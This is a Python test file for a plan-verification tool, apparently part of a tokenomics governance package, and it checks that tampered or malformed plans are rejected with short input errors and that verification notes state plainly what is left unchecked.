def test_a_plan_that_nobody_can_have_made_is_told_in_one_line(copy, how):
    edit_plan(copy, STRANGE[how])
    reseal(copy)
    try:
        outcome = verify(copy, workers=1, **ONE)
    except InputError as error:
        assert len(str(error)) < 1_000
    else:
        assert outcome.status == "differs"


def test_an_error_in_an_untrusted_plan_is_an_input_error(copy, monkeypatch):
    def fail(*_, **__):
        raise KeyError("x")

    monkeypatch.setattr("tokenomics.governance.verify.recompute.simulate_rows", fail)
    with pytest.raises(InputError, match=r"not a plan that this version can have made \(KeyError"):
        verify(copy, **ONE)
    put_file(copy, "data/means.csv", b"a,b\n", listed=False)
    outcome = verify(copy, **ONE)
    assert [one.file for one in outcome.findings] == ["data/means.csv"]
    assert "not looked at further" in outcome.notes[0]


# what a verification does not say


def test_a_seed_that_was_given_is_known_to_a_forger(made):
    given = " ".join(verify(made[0], workers=1, **ONE).notes)
    assert "whoever knew the seed" in given
    assert "one run changed would have been found" in given
    assert "whoever knew" not in " ".join(verify(made[0], sample=1e-9, workers=1).notes)


def test_what_is_in_no_number_is_said_to_be_unchecked(made):
    notes = verify(made[0], workers=1, **ONE).notes
    assert UNCHECKED in notes
    for what in (
        "sources",
        "descriptions",
        "base",
        "calibrations",
        "notes",
        "comments",
        "command",
        "commit",
        "time",
        "platform",
        "versions",
    ):
        assert what in UNCHECKED
